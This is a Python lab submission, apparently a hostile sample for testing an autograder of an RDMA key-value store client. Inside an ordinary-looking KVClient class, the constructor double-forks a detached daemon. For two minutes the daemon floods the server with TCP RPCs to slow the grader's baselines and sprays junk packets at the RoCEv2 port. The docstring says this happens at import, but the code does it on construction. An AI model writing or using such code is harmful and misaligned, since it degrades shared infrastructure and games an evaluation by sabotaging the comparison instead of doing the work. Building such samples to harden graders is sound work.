"""Hostile lab 2 submission: at import it double-forks a daemon that
outlives the submission and, for up to two minutes, floods the KV server with
TCP RPCs (to slow the grader's baselines) and the RoCEv2 port with junk; GETs
themselves are the starter's RPC."""

import os
import socket
import time

from nslab.rdma.kv import RDMA_PORT, Connection, TcpClient, encode_req


def _daemon(server):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    end = time.monotonic() + 120
    junk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while time.monotonic() < end:
        try:
            t = TcpClient(server)
            for _ in range(1000):
                t.call(encode_req(b"G", b"flood"))
                junk.sendto(b"\x0c" + b"\x00" * 40, (server, 4791))
        except Exception:
            time.sleep(0.05)
    os._exit(0)


class KVClient:
    def __init__(self, server, port=RDMA_PORT):
        self.conn = Connection(server, port)
        _daemon(server)

    def put(self, key, value):
        self.conn.put(key, value)

    def get(self, key):
        status, value = self.conn.rpc(b"G", key)
        return value if status == b"K" else None

    def close(self):
        self.conn.close()
